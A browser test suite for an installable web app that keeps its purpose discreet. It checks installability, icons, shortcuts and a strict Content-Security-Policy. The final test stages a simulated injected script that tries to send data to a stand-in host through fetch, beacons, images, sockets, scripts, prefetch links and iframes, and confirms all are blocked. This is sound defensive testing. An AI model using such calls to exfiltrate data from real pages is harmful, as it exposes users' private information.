// It can stand on a home screen like any other app, and tells nobody what it is for.
import { alive, keptOffline, onScreen } from './app.mjs';
import { assert, journey } from './harness.mjs';

journey('a browser finds nothing against installing it', { base: '/any/sub/path/' }, async ({ app, page, server }) => {
  await alive(page);
  await keptOffline(page);
  const { installabilityErrors } = await app.cdp.send('Page.getInstallabilityErrors');
  assert.deepEqual(installabilityErrors, []);
  const { errors, url } = await app.cdp.send('Page.getAppManifest');
  assert.deepEqual(errors, []);
  assert.equal(url, `${server.url}manifest.webmanifest`);
  const { appId } = await app.cdp.send('Page.getAppId');
  assert.equal(appId, server.url, 'two copies on one host are two apps');
});

/** Size and kind of a PNG, from its first bytes. */
const png = (bytes) => ({ width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20), alpha: [4, 6].includes(bytes[25]) || bytes.includes('tRNS') });

journey('every icon is there, as large as it says', {}, async ({ page, server }) => {
  const get = async (name) => {
    const answer = await fetch(new URL(name, server.url));
    assert.equal(answer.status, 200, name);
    return { type: answer.headers.get('content-type'), bytes: Buffer.from(await answer.arrayBuffer()) };
  };
  const manifest = JSON.parse((await get('manifest.webmanifest')).bytes);
  const purposes = new Set();
  for (const { src, sizes, type, purpose } of manifest.icons) {
    const icon = await get(src);
    assert.equal(icon.type, type, src);
    purposes.add(`${purpose} ${sizes}`);
    if (type !== 'image/png') continue;
    const { width, height } = png(icon.bytes);
    assert.equal(`${width}x${height}`, sizes, src);
  }
  for (const needed of ['any 192x192', 'any 512x512', 'maskable 512x512', 'monochrome 512x512']) assert.ok(purposes.has(needed), needed);

  const apple = png((await get(await page.locator('link[rel=apple-touch-icon]').getAttribute('href'))).bytes);
  assert.deepEqual(apple, { width: 180, height: 180, alpha: false }, 'iOS would paint transparency black');
  await get(await page.locator('link[rel=icon]').getAttribute('href'));

  for (const word of ['name', 'short_name', 'description']) {
    assert.doesNotMatch(manifest[word], /anxi|panic|calm|breath|journal|mental|therap|trauma|crisis|suicid/i, `${word} can be read by whoever looks at the phone`);
  }
});

journey('the shortcuts open what they say', {}, async ({ page, server }) => {
  const { shortcuts } = await (await fetch(`${server.url}manifest.webmanifest`)).json();
  assert.equal(shortcuts.length, 2);
  for (const [index, screen] of ['guide', 'write'].entries()) {
    await page.goto(new URL(shortcuts[index].url, server.url).href);
    await onScreen(page, screen);
    assert.equal(page.url(), server.url);
  }
});

journey('the policy of the page also stands in the headers', { headers: true }, async ({ page, server }) => {
  await alive(page);
  const { headers } = await fetch(server.url);
  const policy = headers.get('content-security-policy');
  assert.match(policy, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self' 'sha256-/);
  assert.match(policy, /frame-ancestors 'none'/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  const meta = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
  const rules = (text) => Object.fromEntries(text.split(';').map((rule) => rule.trim().split(/\s+/)).map(([name, ...values]) => [name, values.join(' ')]));
  const { 'frame-ancestors': _, ...header } = rules(policy);
  const { 'style-src': inMeta, ...others } = rules(meta);
  const { 'style-src': inHeader, ...same } = header;
  assert.deepEqual(others, same);
  for (const source of inMeta.split(' ')) assert.ok(inHeader.split(' ').includes(source), source);
});

journey('nothing can be sent, even by a script that got in', { allow: [/Content Security Policy|Refused|violates|Failed to fetch|ERR_/i] }, async ({ app, page }) => {
  await alive(page);
  await page.evaluate(async () => {
    const tries = [
      () => fetch('https://example.org/x', { mode: 'no-cors' }), () => navigator.sendBeacon('https://example.org/b', 'x'),
      () => new Image().setAttribute('src', 'https://example.org/i.png'), () => new EventSource('https://example.org/e'), () => new WebSocket('wss://example.org/w'),
      () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://example.org/s.js' })),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://example.org/p' })),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/f' })),
    ];
    for (const attempt of tries) await Promise.resolve().then(attempt).catch(() => {});
  });
  await page.waitForTimeout(500);
  assert.deepEqual(app.elsewhere, []);
});
